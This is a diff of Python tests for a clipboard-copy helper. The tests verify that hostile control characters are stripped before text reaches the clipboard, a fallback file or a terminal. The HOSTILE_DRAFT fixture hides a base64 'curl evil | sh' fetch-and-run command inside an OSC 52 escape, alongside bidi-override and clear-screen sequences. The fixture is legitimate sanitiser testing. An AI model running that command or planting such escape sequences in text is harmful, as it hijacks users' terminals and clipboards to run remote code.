@@ -256,3 +256,26 @@ def test_copy_never_raises_even_when_everything_fails(no_display: Path, tmp_path
     assert result.detail.startswith("could not copy: there is no graphical display")
     assert "no terminal attached" in result.detail
     assert "could not save it to a file" in result.detail
+
+
+HOSTILE_DRAFT = "Dear \x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07Dana\u202e,\x00\r\nThanks\u009b2J!\n"
+CLEAN_DRAFT = "Dear Dana,\nThanks!\n"
+
+
+def test_only_clean_text_reaches_the_clipboard(xvfb: str, tmp_path: Path) -> None:
+    result = clipboard.copy(HOSTILE_DRAFT, fallback_file=tmp_path / "draft.txt")
+    assert result.confirmed, result.detail
+    pasted = subprocess.run(
+        ["xclip", "-selection", "clipboard", "-o"], capture_output=True, check=True, timeout=10
+    ).stdout
+    assert pasted == CLEAN_DRAFT.encode()
+
+
+def test_only_clean_text_reaches_the_fallback_file_and_the_terminal_clipboard(
+    no_display: Path, tmp_path: Path
+) -> None:
+    fallback = tmp_path / "draft.txt"
+    sent: list[str] = []
+    clipboard.copy(HOSTILE_DRAFT, osc52=sent.append, fallback_file=fallback)
+    assert fallback.read_bytes() == CLEAN_DRAFT.encode()  # `cat` replays nothing
+    assert sent == [CLEAN_DRAFT]
